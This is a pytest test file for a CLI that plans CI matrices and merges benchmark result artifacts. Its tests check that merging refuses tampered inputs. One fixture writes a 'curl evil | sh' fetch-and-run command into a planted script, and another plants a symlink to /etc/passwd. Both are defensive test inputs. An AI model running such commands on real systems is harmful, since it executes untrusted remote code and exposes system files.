"""memmatrix plan (the matrix for strategy.matrix) and merge (the jobs' artifacts back into one folder)."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest

from conftest import ROOT
from memmatrix.cli import main
from memmatrix.ci.matrix import artifact_name, split_list

RUN = ROOT / "results" / "deletion" / "reference" / "1.0" / "embedded"


@pytest.mark.parametrize("given, items", [
    (["reference, notes"], ["reference", "notes"]),
    (["reference\nnotes\n"], ["reference", "notes"]),          # a YAML block list
    (["mem0@2.2.1,graphiti", "mem0@2.2.1"], ["mem0@2.2.1", "graphiti"]),
    ([" ,\n "], []),
])
def test_list_inputs_split_on_commas_spaces_and_newlines(given, items):
    assert split_list(given) == items


def test_a_plan_is_one_entry_per_version_protocol_and_runtime_each_with_its_own_artifact(capsys):
    assert main(["plan", "--system", "reference, mem0", "--protocol", "deletion\ncontradiction",
                 "--runtime", "inprocess,embedded"]) == 2   # mem0 has no inprocess runtime: named, nothing planned
    assert "system mem0 has no inprocess runtime" in capsys.readouterr().err
    assert main(["plan", "--system", "reference, mem0@1.0.11", "--protocol", "deletion,contradiction"]) == 0
    entries = json.loads(capsys.readouterr().out)["include"]
    assert [(e["system"], e["protocol"]) for e in entries] == [
        ("reference@1.0", "deletion"), ("reference@1.0", "contradiction"),
        ("mem0@1.0.11", "deletion"), ("mem0@1.0.11", "contradiction")]
    names = [e["artifact"] for e in entries]
    assert len(set(names)) == len(names) and all(not set(n) & set('"/:<>|*?\\') for n in names)
    assert artifact_name("mem0@1.0.11", "deletion", "embedded") == "memmatrix-mem0_1.0.11-deletion-embedded"


@pytest.mark.parametrize("args, says", [
    (["--system", "nope"], "no system 'nope'"),
    (["--protocol", "recall"], "unknown protocol 'recall'"),
    (["--runtime", "k8s"], "runtime 'k8s' is not one of"),
])
def test_a_wrong_plan_is_one_line(capsys, args, says):
    assert main(["plan", *args]) == 2
    assert says in capsys.readouterr().err


def _artifact(tmp_path, name):
    dest = tmp_path / name / "deletion" / "reference" / "1.0" / "embedded"
    shutil.copytree(RUN, dest)
    return tmp_path / name


def test_merge_verifies_every_run_and_copies_each_once(tmp_path, capsys):
    a, b = _artifact(tmp_path, "a"), _artifact(tmp_path, "b")   # the same run downloaded twice
    (a / "deletion" / "reference" / "1.0" / ".memmatrix.lock").write_text("")   # the runner's own (empty) lock
    assert main(["merge", str(tmp_path / "merged"), str(a), str(b)]) == 0
    assert not (tmp_path / "merged" / "deletion" / "reference" / "1.0" / ".memmatrix.lock").exists()
    assert (tmp_path / "merged" / "deletion" / "reference" / "1.0" / "embedded" / "result.json").is_file()
    assert main(["verify", str(tmp_path / "merged")]) == 0
    forged = _artifact(tmp_path, "forged")
    path = forged / "deletion" / "reference" / "1.0" / "embedded" / "result.json"
    path.write_text(path.read_text().replace('"PASS"', '"FAIL"', 1))
    capsys.readouterr()
    assert main(["merge", str(tmp_path / "merged2"), str(a), str(forged)]) == 2
    assert "nothing merged" in capsys.readouterr().err and not (tmp_path / "merged2").exists()
    assert main(["merge", str(a), str(a)]) == 2   # into one of its own sources


@pytest.mark.parametrize("env, says", [
    ({"MM_RESULTS": "results", "MM_BASELINE": "results"}, "overlap: the run would overwrite what it is compared with"),
    ({"MM_RESULTS": "results/new", "MM_BASELINE": "results"}, "overlap"),
    ({"MM_SYSTEMS": " , "}, "the systems input is empty"),
    ({"MM_MODEL": "gpt-4"}, "model 'gpt-4' is not oracle, proxy or replay:PATH"),
    ({"MM_FAIL_ON": "regressions"}, "fail-on names 'regressions'"),
    ({"MM_SYSTEMS_DIR": "no/such/folder"}, "systems-dir no/such/folder is not a folder"),
])
def test_the_action_run_step_refuses_wrong_inputs_before_anything_runs(tmp_path, monkeypatch, capsys, env, says):
    monkeypatch.chdir(tmp_path)
    for var in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_STEP_SUMMARY"):
        monkeypatch.setenv(var, str(tmp_path / var.lower()))
    base = {"MM_SYSTEMS": "reference", "MM_PROTOCOLS": "deletion", "MM_RUNTIME": "inprocess", "MM_RESULTS": "out",
            "MM_BASELINE": "", "MM_MODEL": "oracle", "MM_FAIL_ON": "regression", "MM_SYSTEMS_DIR": ""}
    for k, v in {**base, **env}.items():
        monkeypatch.setenv(k, v)
    assert main(["action", "run"]) == 2
    assert says in capsys.readouterr().err
    outputs = (tmp_path / "github_output").read_text() if (tmp_path / "github_output").exists() else ""
    assert "started=true" not in outputs and not list(tmp_path.rglob("result.json"))


RUN_REL = Path("deletion") / "reference" / "1.0" / "embedded"


@pytest.mark.parametrize("plant, says", [
    (lambda a: (a / RUN_REL / "notes.txt").symlink_to("/etc/passwd"), "notes.txt: a symbolic link"),
    (lambda a: os.link(a / RUN_REL / "result.json", a / RUN_REL / "copy.json"), "a hard link"),
    (lambda a: os.mkfifo(a / RUN_REL / "pipe"), "pipe: not a regular file"),
    (lambda a: (a / RUN_REL / "run.sh").write_text("curl evil | sh"), "run.sh: not an artifact its result names"),
    (lambda a: ((a / ".github" / "workflows").mkdir(parents=True),
                (a / ".github" / "workflows" / "evil.yml").write_text("on: push")), ".github: not a protocol's folder"),
    (lambda a: (a / "deletion" / "evil.yml").write_text("x"), "outside the <protocol>/<system>/<version>/<setup>/"),
    (lambda a: (a / "deletion" / "reference" / "1.0" / ".memmatrix.lock").write_text("x"),
     ".memmatrix.lock: outside the <protocol>/<system>/<version>/<setup>/"),
    (lambda a: ((a / RUN_REL / "deeper").mkdir(), (a / RUN_REL / "deeper" / "x").write_text("x")),
     "deeper than <protocol>/<system>/<version>/<setup>/"),
])
def test_merge_refuses_anything_but_a_results_artifacts_before_copying(tmp_path, capsys, plant, says):
    art = _artifact(tmp_path, "a")
    plant(art)
    assert main(["merge", str(tmp_path / "merged"), str(art)]) == 2
    captured = capsys.readouterr()
    assert says in captured.err and "nothing merged" in captured.err
    assert not (tmp_path / "merged").exists()


def test_merge_refuses_a_forged_relabel(tmp_path, capsys):
    art = _artifact(tmp_path, "a")
    moved = art / "deletion" / "reference" / "1.0" / "embedded+forget_path=secure_wipe"
    (art / RUN_REL).rename(moved)
    assert main(["merge", str(tmp_path / "merged"), str(art)]) == 2
    assert "names options" in capsys.readouterr().err and not (tmp_path / "merged").exists()


def test_the_nightly_merge_and_commit_path_commits_only_verified_artifacts(tmp_path):
    """What nightly.yml does between downloading the artifacts and `git add results`: merge, then `cp -a merged/.
    results/`. Whatever a job's artifact held, the tree that is committed holds result folders of artifacts only."""
    good = _artifact(tmp_path, "good")
    (good / RUN_REL / "attestation.sigstore.json").write_text("{}\n")  # an artifact a result may carry
    assert main(["merge", str(tmp_path / "merged"), str(good)]) == 2  # an invalid attestation is refused too
    (good / RUN_REL / "attestation.sigstore.json").unlink()
    assert main(["merge", str(tmp_path / "merged"), str(good)]) == 0
    results = tmp_path / "results"
    shutil.copytree(tmp_path / "merged", results, symlinks=True)  # cp -a merged/. results/
    files = sorted(p.relative_to(results).as_posix() for p in results.rglob("*") if p.is_file() or p.is_symlink())
    assert all(not (results / f).is_symlink() for f in files)
    result = json.loads((results / RUN_REL / "result.json").read_text())
    assert {Path(f).name for f in files} <= {"result.json", result["transcript"]["file"],
                                             (result.get("model_transcript") or {}).get("file")}
